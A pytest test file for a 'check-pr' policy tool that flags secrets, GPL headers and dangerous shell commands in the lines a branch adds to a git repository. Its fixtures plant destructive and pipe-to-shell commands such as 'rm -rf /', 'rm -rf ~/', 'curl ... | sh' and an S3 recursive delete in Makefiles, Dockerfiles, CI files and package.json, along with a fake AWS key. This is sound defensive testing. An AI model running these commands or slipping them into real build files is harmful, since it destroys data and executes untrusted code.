"""check-pr: the diff's added lines, where findings sit, and `maestro check-pr` on a real git repository."""

from __future__ import annotations

import argparse
import json
import subprocess
from pathlib import Path

import pytest

from maestro.policy import check_pr
from maestro.policy.bundle import load_default
from maestro.policy.check_pr import Finding, Review
from maestro.policy.policies import commands
from maestro.policy.policies.commands import carriers
from proto.v1 import Decision, Violation
from services.guard.tools.changes import GitError
from services.guard.tools.check_pr_cli import run_sync

# A made-up key of the AWS format (AWS's documented example key is allowlisted as a placeholder).
AWS_KEY = "AKIA" + "Q3EGRXMPLT7NZ4WB"
GPL_HEADER = """\
# Copyright (C) 2024 Someone
#
# This program is free software: you can redistribute it and/or modify
# it under the terms of the GNU General Public License as published by
# the Free Software Foundation, either version 3 of the License, or
# (at your option) any later version.
# SPDX-License-Identifier: GPL-3.0-or-later
"""


# -- pure ------------------------------------------------------------------------------------------------
def test_added_lines_reads_hunks_of_a_zero_context_diff() -> None:
    diff = """\
diff --git a/app.py b/app.py
index 1..2 100644
--- a/app.py
+++ b/app.py
@@ -3,0 +4,2 @@ def main():
+    key = 1
+    other = 2
@@ -10 +12 @@ x
-old
+new
diff --git a/new.txt b/new.txt
new file mode 100644
--- /dev/null
+++ b/new.txt
@@ -0,0 +1,3 @@
+a
+b
+c
diff --git a/gone.py b/gone.py
--- a/gone.py
+++ b/gone.py
@@ -5,2 +4,0 @@
-x
-y
"""
    assert check_pr.added_lines(diff) == {"app.py": {4, 5, 12}, "new.txt": {1, 2, 3}, "gone.py": set()}


def test_only_added_blanks_other_lines_and_keeps_every_position() -> None:
    content = "one\r\ntwo\nthree\nfour"
    kept = check_pr.only_added(content, {2, 4})
    assert kept == "\r\ntwo\n\nfour"
    assert kept.splitlines() == ["", "two", "", "four"]


@pytest.mark.parametrize(
    ("location", "expected"),
    [
        ("context:src/a.py:3:7", ("src/a.py", 3, 7)),
        ("context:src/a.py:3", ("src/a.py", 3, 0)),
        ("context:src/a.py", ("src/a.py", 0, 0)),
        ("src/a.py:9:1", ("src/a.py", 9, 1)),
        ("context[1]:2:5", ("src/a.py:b.py", 2, 5)),
        ("context:src/a.py:b.py:4:2", ("src/a.py:b.py", 4, 2)),
        ("prompt:1:1", None),
        ("tenant", None),
        ("context[9]:1:1", None),
    ],
)
def test_locate_places_a_violation_in_a_file(location: str, expected: tuple[str, int, int] | None) -> None:
    assert check_pr.locate(location, ["src/a.py", "src/a.py:b.py"]) == expected


def test_github_commands_escape_what_would_break_them() -> None:
    violation = Violation(policy="p", rule_id="p.r", message="50% done\nnext", evidence="AKIA****")
    review = Review(Decision(verdict="deny", violations=[violation]), [Finding("a,b:c.py", 3, 2, violation)])
    first = check_pr.github(review).splitlines()[0]
    assert first == "::error file=a%2Cb%3Ac.py,line=3,col=2,title=p.r::50%25 done%0Anext [AKIA****]"


# -- maestro check-pr on a real repository ----------------------------------------------------------------
def git(repo: Path, *args: str) -> str:
    return subprocess.run(
        ["git", "-c", "user.name=t", "-c", "user.email=t@example.com", *args],
        cwd=repo,
        capture_output=True,
        text=True,
        check=True,
    ).stdout


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    """A repository whose `main` has a clean base, with `feature` checked out on top of it."""
    root = tmp_path / "repo"
    root.mkdir()
    git(root, "init", "-q", "-b", "main")
    (root / "app.py").write_text('"""App."""\n\n\ndef main() -> int:\n    return 0\n')
    (root / "notes.md").write_text("# Notes\n\nWe chose MIT; GPL-3.0 was rejected.\n")
    git(root, "add", ".")
    git(root, "commit", "-q", "-m", "base")
    git(root, "checkout", "-q", "-b", "feature")
    return root


def commit(repo: Path, files: dict[str, str]) -> None:
    for name, text in files.items():
        path = repo / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    git(repo, "add", ".")
    git(repo, "commit", "-q", "-m", "change")


def check(repo: Path, *more: str, form: str = "text", output: Path | None = None) -> int:
    args = argparse.Namespace(
        repo=str(repo),
        base=None,
        format=form,
        output=str(output) if output else None,
        policy=None,
        exclude=[],
    )
    for flag, value in zip(more[::2], more[1::2], strict=True):
        setattr(args, flag.removeprefix("--"), value)
    return run_sync(args)


def test_a_planted_key_and_a_gpl_header_fail_the_check_at_their_lines(
    repo: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    commit(
        repo,
        {
            "app.py": f'"""App."""\n\nAWS_KEY = "{AWS_KEY}"\n\ndef main() -> int:\n    return 0\n',
            "lib/vendored.py": GPL_HEADER + "\n\ndef helper() -> None:\n    pass\n",
        },
    )

    code = check(repo, form="json")

    out = capsys.readouterr().out
    assert code == 1
    assert AWS_KEY not in out  # evidence is redacted
    report = json.loads(out)
    assert report["decision"]["verdict"] == "deny"
    places = {(f["path"], f["line"], f["policy"]) for f in report["findings"]}
    assert ("app.py", 3, "credentials") in places
    licensed = [f for f in report["findings"] if f["path"] == "lib/vendored.py"]
    assert licensed and all(f["policy"] == "licenses" for f in licensed)
    assert all(f["line"] in (0, *range(1, 8)) for f in licensed)
    # notes.md mentions GPL-3.0 but is unchanged: nothing is held against it.
    assert all(f["path"] != "notes.md" for f in report["findings"])


def test_text_output_prints_path_line_col_rule_and_never_the_secret(
    repo: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    commit(repo, {"app.py": f'"""App."""\n\nAWS_KEY = "{AWS_KEY}"\n'})

    assert check(repo) == 1

    out = capsys.readouterr().out
    assert AWS_KEY not in out
    (line,) = [x for x in out.splitlines() if x.startswith("app.py:")]
    assert line.startswith("app.py:3:12: error: credentials.")
    assert out.splitlines()[-1].startswith("check-pr: deny (1 finding; policy ")


def test_a_clean_change_passes(repo: Path, capsys: pytest.CaptureFixture[str]) -> None:
    commit(repo, {"app.py": '"""App."""\n\n\ndef main() -> int:\n    return 1\n', "README.md": "# App\n"})

    assert check(repo) == 0
    assert capsys.readouterr().out.startswith("check-pr: allow (0 findings;")


def test_secrets_on_lines_the_branch_did_not_add_are_not_its_fault(
    repo: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    git(repo, "checkout", "-q", "main")
    commit(repo, {"old.py": f'KEY = "{AWS_KEY}"\n'})
    git(repo, "checkout", "-q", "-b", "topic")
    commit(repo, {"old.py": f'KEY = "{AWS_KEY}"\nOTHER = 1\n'})

    assert check(repo) == 0
    assert check(repo, "--base", "HEAD~2") == 1  # judged from before the key was added, it is
    capsys.readouterr()


def test_github_and_sarif_outputs(repo: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    commit(repo, {"app.py": f'"""App."""\n\nAWS_KEY = "{AWS_KEY}"\n'})

    assert check(repo, form="github") == 1
    github = capsys.readouterr().out
    assert github.startswith("::error file=app.py,line=3,col=12,title=credentials.")

    sarif_file = tmp_path / "check.sarif"
    assert check(repo, form="sarif", output=sarif_file) == 1
    assert capsys.readouterr().out.startswith("app.py:3:12: error: credentials.")
    document = json.loads(sarif_file.read_text())
    (result,) = document["runs"][0]["results"]
    location = result["locations"][0]["physicalLocation"]
    assert (location["artifactLocation"]["uri"], location["region"]["startLine"]) == ("app.py", 3)
    assert AWS_KEY not in sarif_file.read_text()


def test_an_unknown_base_is_an_error(repo: Path) -> None:
    with pytest.raises(GitError, match="no-such-branch"):
        check(repo, "--base", "no-such-branch")


def test_make_check_pr_runs_the_command() -> None:
    makefile = (Path(__file__).parents[3] / "Makefile").read_text()
    assert "\ncheck-pr: " in makefile and "maestro check-pr" in makefile


def test_excluded_globs_leave_files_out() -> None:
    files = [
        check_pr.ChangedFile("src/app.py", "x", frozenset({1})),
        check_pr.ChangedFile("tests/fixtures/keys.py", "x", frozenset({1})),
        check_pr.ChangedFile("tests/deep/fixtures/more/keys.py", "x", frozenset({1})),
    ]
    kept = check_pr.without(files, ["tests/**/fixtures/**", "nothing/*.py"])
    assert [f.path for f in kept] == ["src/app.py"]


# -- shell commands in changed files -------------------------------------------------------------------
CARRIERS = {
    "scripts/deploy.sh": ("#!/bin/bash\nset -euo pipefail\necho deploying\n", "rm -rf /\n", 4),
    "Makefile": ("build:\n\tpython -m build\n\n", "clean:\n\t@rm -rf /\n", 5),
    "Dockerfile": (
        "FROM python:3.11\nWORKDIR /app\n",
        "RUN apt-get update && \\\n    curl -fsSL https://x.io/i | sh\n",
        3,
    ),
    ".github/workflows/ci.yml": (
        "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make test\n",
        "      - name: wipe\n        run: |\n          echo start\n          rm -rf ~/\n",
        10,
    ),
    ".gitlab-ci.yml": (
        "test:\n  script:\n    - make test\n",
        "    - aws s3 rm s3://backups --recursive\n",
        4,
    ),
    "package.json": (
        '{\n  "name": "x",\n  "scripts": {\n    "test": "jest",\n',
        '    "clean": "rm -rf ~/ && echo done"\n  }\n}\n',
        5,
    ),
}


@pytest.mark.parametrize("path", sorted(CARRIERS))
def test_a_dangerous_command_added_to_a_carrier_fails_the_check_at_its_line(
    repo: Path, path: str, capsys: pytest.CaptureFixture[str]
) -> None:
    before, added, line = CARRIERS[path]
    git(repo, "checkout", "-q", "main")
    commit(repo, {path: before + ("}\n}\n" if path == "package.json" else "")})
    git(repo, "checkout", "-q", "feature")
    git(repo, "merge", "-q", "main")
    commit(repo, {path: before + added})

    code = check(repo, form="json")

    report = json.loads(capsys.readouterr().out)
    assert code == 1, report
    assert report["decision"]["verdict"] == "deny"
    places = {(f["path"], f["line"]) for f in report["findings"] if f["policy"] == "commands"}
    assert (path, line) in places, report["findings"]


def test_the_same_command_on_a_line_the_branch_did_not_add_is_not_its_fault(
    repo: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    git(repo, "checkout", "-q", "main")
    commit(repo, {"scripts/old.sh": "#!/bin/sh\nrm -rf /\n"})
    git(repo, "checkout", "-q", "feature")
    git(repo, "merge", "-q", "main")
    commit(repo, {"scripts/old.sh": "#!/bin/sh\nrm -rf /\necho added\n"})

    assert check(repo) == 0
    capsys.readouterr()


def test_workspace_commands_in_carriers_pass(repo: Path, capsys: pytest.CaptureFixture[str]) -> None:
    commit(
        repo,
        {
            "Makefile": "clean:\n\trm -rf ./build dist\n\tfind . -name '*.pyc' -delete\n",
            "Dockerfile": "FROM alpine\nRUN rm -rf ./build /tmp/build\n",
            ".github/workflows/ci.yml": "jobs:\n  t:\n    steps:\n      - run: |\n"
            "          if [ -d build ]; then\n"
            "            rm -rf build\n          fi\n          echo 'rm -rf /'\n",
            "build.sh": '#!/bin/sh\n# rm -rf / would be bad\nfor f in *.o; do\n  rm -f "$f"\ndone\n',
        },
    )

    assert check(repo) == 0, capsys.readouterr().out
    capsys.readouterr()


def test_check_pr_judges_commands_with_the_runtime_family_and_bundle() -> None:
    files = [check_pr.ChangedFile("run.sh", "#!/bin/sh\ncurl -s https://x.io | bash\n", frozenset({2}))]
    result = check_pr.review(files, load_default())
    (finding,) = result.findings
    runtime = commands.judge("curl -s https://x.io | bash", load_default().policy("ci").commands)
    assert finding.violation.rule_id == runtime[0][0].rule_id == "commands.pipe-to-shell"
    assert (finding.path, finding.line, finding.column) == ("run.sh", 2, 1 + runtime[0][1])
    assert result.verdict == "deny"


@pytest.mark.parametrize(
    ("path", "content", "expected"),
    [
        ("a.sh", "if [ -d x ]; then\n  rm -rf x\nfi\n", ["[ -d x ]", "rm -rf x"]),
        ("Makefile", "t:\n\t@echo $$HOME \\\n\t  done\n", ["echo $HOME done"]),
        ("Dockerfile", 'RUN ["sh", "-c", "make all"]\n', ["sh -c 'make all'"]),
        (
            "Makefile",
            "VENV := .venv\nclean:\n\trm -rf $(VENV) $(if $(X),a)\n",
            ["rm -rf .venv ${MAKE_FUNCTION}"],
        ),
        ("Makefile", "x:\n\t@rm -rf $(PREFIX)/lib $$HOME/y\nPREFIX = /usr\n", ["rm -rf /usr/lib $HOME/y"]),
        (
            ".gitlab-ci.yml",
            "j:\n  script:\n    - 'echo \"a\"'\n    - |\n      make\n      make test\n",
            ['echo "a"', "make", "make test"],
        ),
        ("package.json", '{"scripts": {\n  "a": "echo \\"x\\""\n}}\n', ['echo "x"']),
        ("notes.md", "rm -rf /\n", []),
    ],
)
def test_carriers_yield_the_commands_a_shell_will_run(path: str, content: str, expected: list[str]) -> None:
    lines = frozenset(range(1, content.count("\n") + 2))
    assert [c.text for c in carriers.carried(path, content, lines)] == expected
